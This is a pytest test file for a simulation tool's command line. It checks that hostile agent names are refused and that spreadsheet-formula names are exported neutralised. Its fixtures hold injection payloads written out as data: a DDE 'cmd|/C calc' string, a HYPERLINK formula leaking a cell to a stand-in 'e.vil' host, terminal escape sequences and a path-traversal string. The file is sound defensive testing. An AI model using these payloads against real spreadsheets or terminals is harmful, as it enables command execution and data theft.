"""Hostile agent names and texts, end to end through the command line: names a terminal
would act on are refused in one line before anything is written; names a spreadsheet would
run are played, shown verbatim and exported neutralised (a leading apostrophe)."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pytest

from engine.core.textsafe import csv_cell, csv_row, unsafe_char
from engine.reports.export import COLUMNS
from robustness.scenario_mutations import to_toml

REFUSED = {
    "escape": "Ann\u001b[31mRED\u001b]0;PWNED\u0007x",
    "bell": "Ann\u0007",
    "nul": "Ann\x00",
    "csi-c1": "Ann\u009b2J",
    "rtl-override": "Ann\u202egnp.exe",
    "newline": "Ann\nBob",
    "carriage-return": "Ann\rBob",
    "tab": "Ann\tBob",
    "empty": "",
    "leading-space": " Ann",
    "too-long": "A" * 41,
    "reserved": "ALL",
    "case-twin": "bob",
}
PLAYED = {
    "hyperlink": '=HYPERLINK("http://e.vil/?"&A1,"go")',
    "sum": "@SUM(1+1)",
    "plus": "+cmd|' /C calc'!A0",
    "minus": "-2+3",
    "markup": "[bold red]Ann[/]",
    "path": "../../etc",
    "unicode": "Zoë 🦊 محمد",
    "quotes": 'O\'Brien "the" elder',
}
FORMULA = ("=", "+", "-", "@", "\t", "\r")


def _scenario(tmp_path: Path, mini_data: dict, name: str) -> Path:
    """The mini scenario with Ann renamed to ``name`` everywhere."""
    text = json.dumps(mini_data).replace('"Ann"', json.dumps(name))
    data = json.loads(text)
    data["events"].append({"round": 1, "text": "=1+1 and @A1 are on the agenda"})
    data["agents"][1]["talking_points"] = ["-5 is what we owe", "+ cmd"]
    path = tmp_path / "hostile.toml"
    path.write_text(to_toml(data), encoding="utf-8")
    return path


@pytest.mark.parametrize("case", list(REFUSED))
def test_names_a_terminal_would_act_on_are_refused(
    socialsim, saves: Path, tmp_path: Path, mini_data: dict, case: str
):
    path = _scenario(tmp_path, mini_data, REFUSED[case])
    for args in (["validate", str(path)], ["run", str(path), "--rounds", "1"]):
        result = socialsim(*args)
        assert result.code == 2, (case, result.out, result.err)
        assert result.err.count("\n") == 1 and unsafe_char(result.err.rstrip("\n")) is None
        assert result.err.startswith(f"socialsim: error: {path}: agents."), result.err
    assert not saves.exists()


@pytest.mark.parametrize("case", list(PLAYED))
def test_names_a_spreadsheet_would_run_are_played_and_exported_neutralised(
    socialsim, saves: Path, tmp_path: Path, mini_data: dict, case: str
):
    name = PLAYED[case]
    path = _scenario(tmp_path, mini_data, name)
    ran = socialsim("run", str(path), "--rounds", "2", "--run-id", "h", "--seed", "3")
    assert ran.code == 0, ran.err
    shown = socialsim("show", "h")
    assert shown.code == 0, shown.err
    assert name in shown.out  # verbatim, not read as markup
    out = tmp_path / "csv"
    assert socialsim("export", "h", "--out", str(out)).code == 0
    seen_name = False
    for table, columns in COLUMNS.items():
        with (out / f"{table}.csv").open(newline="") as file:
            rows = list(csv.reader(file))
        assert tuple(rows[0]) == columns
        for row in rows[1:]:
            for cell in row:
                assert csv_cell(cell) == cell or not cell.startswith(FORMULA), (table, cell)
                seen_name |= cell == csv_cell(name) and cell.startswith("'") == (
                    name.startswith(FORMULA)
                )
    assert seen_name


def test_neutralised_cells_keep_numbers_and_plain_text():
    row = ["=1+1", "@x", "+a", "-b", "\tx", "\rx", "-0.25", "+3", "1e-5", "-1 1 -1", "ok", -0.5, 7]
    assert csv_row(row) == [
        "'=1+1",
        "'@x",
        "'+a",
        "'-b",
        "'\tx",
        "'\rx",
        "-0.25",
        "+3",
        "1e-5",
        "-1 1 -1",
        "ok",
        -0.5,
        7,
    ]


def test_the_sweep_csv_is_neutralised(tmp_path: Path, monkeypatch: pytest.MonkeyPatch):
    import engine.studies.sweep
    from tui.cli import studies

    monkeypatch.setattr(
        engine.studies.sweep, "tidy_rows", lambda result: [{"task": "=cmd()", "value": -0.5}]
    )
    out = tmp_path / "sweep.csv"
    studies._write_csv(None, out)  # type: ignore[arg-type]
    assert out.read_text() == "task,value\n'=cmd(),-0.5\n"
